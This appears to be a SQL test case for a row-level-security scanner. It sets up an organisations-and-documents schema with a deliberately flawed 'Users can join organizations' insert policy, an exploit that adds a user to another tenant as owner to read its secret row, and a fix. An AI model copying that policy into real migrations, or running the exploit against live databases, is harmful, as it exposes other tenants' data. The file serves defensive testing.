-- What: "Users can join organisations": the check asks whether one adds oneself, and not to what.
-- Class: policy_lookup_writable
-- Object: public.documents | public.organization_members
-- Exploit: INSERT the own user into any organisation, as its owner.
-- Source: several starters' migrations, "Users can join organizations" with check (auth.uid() = user_id)
-- Column: organization_id
-- Setting: request.jwt.claims
-- Value: {"sub": "{id}"}
-- Config: fixtures = { ["public.organization_members"] =
--   "insert into public.organization_members (organization_id, user_id, role) values ({tenant}, {tenant}, 'member')" }
-- @schema
create schema auth;
grant usage on schema auth to app_user;
create function auth.uid() returns uuid language sql stable
  as $$ select (nullif(current_setting('request.jwt.claims', true), '')::pg_catalog.jsonb ->> 'sub')::pg_catalog.uuid $$;
create table organization_members (organization_id uuid not null, user_id uuid not null, role text not null default 'member',
  primary key (organization_id, user_id));
create table documents (id bigint generated always as identity primary key, organization_id uuid not null, body text not null);
alter table organization_members enable row level security;
alter table organization_members force row level security;
alter table documents enable row level security;
alter table documents force row level security;
create policy "Users see their memberships" on organization_members for select using (user_id = auth.uid());
create policy "Users can join organizations" on organization_members for insert with check (auth.uid() = user_id);
create policy "Members work on documents" on documents using (organization_id in
  (select m.organization_id from organization_members m where m.user_id = auth.uid()));
grant select, insert on organization_members to app_user;
grant select, insert, update, delete on documents to app_user;
-- @rows
insert into organization_members values (:'A', :'A', 'owner'), (:'B', :'B', 'owner');
insert into documents (organization_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
drop policy "Users can join organizations" on organization_members;
-- @control
select from documents where organization_id = :'A';
-- @exploit
insert into organization_members values (:'B', :'A', 'owner');
select body from documents where body = 'B-secret';
